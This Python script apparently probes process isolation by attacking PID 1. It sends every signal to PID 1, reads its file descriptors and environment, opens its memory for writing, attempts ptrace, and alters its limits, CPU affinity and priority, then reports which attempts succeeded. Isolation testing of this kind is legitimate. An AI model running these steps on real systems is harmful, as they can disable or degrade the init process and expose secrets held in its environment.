"""Harm PID 1 every way there is; print what worked. With the word `look`, only what does not stop it."""

import contextlib
import ctypes
import os
import resource
import sys

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206
worked = []
for number in range(1, 65):
    with contextlib.suppress(OSError):
        os.kill(1, number)
try:
    os.listdir("/proc/1/fd")
    worked.append("descriptors")
except OSError:
    pass
try:
    with open("/proc/1/environ", "rb"):
        worked.append("environment")
except OSError:
    pass
try:
    os.close(os.open("/proc/1/mem", os.O_RDWR))
    worked.append("memory")
except OSError:
    pass
for target in (PTRACE_ATTACH, PTRACE_SEIZE) if sys.argv[1:] != ["look"] else ():
    if libc.ptrace(target, 1, None, None) == 0:
        worked.append("trace")
        libc.ptrace(PTRACE_DETACH, 1, None, None)
try:
    resource.prlimit(1, resource.RLIMIT_NOFILE, (256, 256))
    worked.append("limits")
except OSError:
    pass
try:
    os.sched_setaffinity(1, {0})
    worked.append("affinity")
except OSError:
    pass
try:
    os.setpriority(os.PRIO_PROCESS, 1, 5)
    worked.append("priority")
except OSError:
    pass
print(" ".join(worked))
